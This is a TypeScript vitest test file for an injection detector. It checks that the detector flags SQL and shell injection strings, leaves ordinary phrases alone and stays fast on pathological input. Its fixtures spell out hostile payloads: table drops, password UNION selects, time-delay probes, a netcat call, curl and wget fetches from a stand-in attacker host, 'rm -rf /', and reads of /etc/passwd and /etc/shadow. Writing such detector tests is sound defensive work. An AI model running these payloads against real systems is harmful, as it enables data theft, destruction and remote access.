import { describe, expect, it } from 'vitest';
import { processorTime } from '#testing';
import { suspicionIn } from './suspicion.ts';

describe('a suspicion', () => {
  it.each([
    "' OR 1=1 --",
    "' or 'a'='a",
    "admin'--",
    'x") or ("1"="1',
    '1; DROP TABLE users',
    "x' UNION SELECT password FROM users",
    '1 UNION ALL SELECT NULL',
    '1; DELETE FROM users',
    "1; WAITFOR DELAY '0:0:5'",
    '1 AND SLEEP(5)',
    "'; SELECT pg_sleep(10)--",
    "1' ORDER BY 1--",
    'SELECT * FROM information_schema.tables',
  ])('falls on SQL: %s', (text) => expect(suspicionIn({ filter: [text] })).toBe('sql_injection'));

  it.each([
    '; cat /etc/passwd',
    'x | nc 10.0.0.1 4444',
    'x && curl http://evil.example/x',
    '$(whoami)',
    '`id`',
    '; rm -rf /',
    '|| wget http://evil.example',
    '& ping -c 10 127.0.0.1',
    'file.txt; uname -a',
    '../../etc/shadow',
  ])('falls on commands: %s', (text) => expect(suspicionIn({ filter: [text] })).toBe('command_injection'));

  it.each([
    "It's 5 or 6 = maybe",
    'Tom & Jerry; cats | dogs',
    "rock 'n' roll and more",
    'run `npm test` please',
    'I said "yes" and left',
    'the union of workers selected him',
    "he'll drop the table off; then go",
    'Q&A; cat food',
    '-- signed, me',
    'sleep (8 hours)',
    'update me on the set; id card needed',
  ])('does not fall on ordinary words: %s', (text) => expect(suspicionIn({ text })).toBeUndefined());

  it('costs little, whatever the text', () => {
    const texts = [
      "'",
      "' ",
      '; ',
      '`id ',
      "'     )     ;     ",
      'union ',
      '$( ',
      `;update ${'a'.repeat(64)} `,
    ];
    const time = processorTime(() => {
      for (const text of texts) suspicionIn(Array.from({ length: 100 }, () => text.repeat(10_000)));
    });
    expect(time).toBeLessThan(2_000);
  });
});
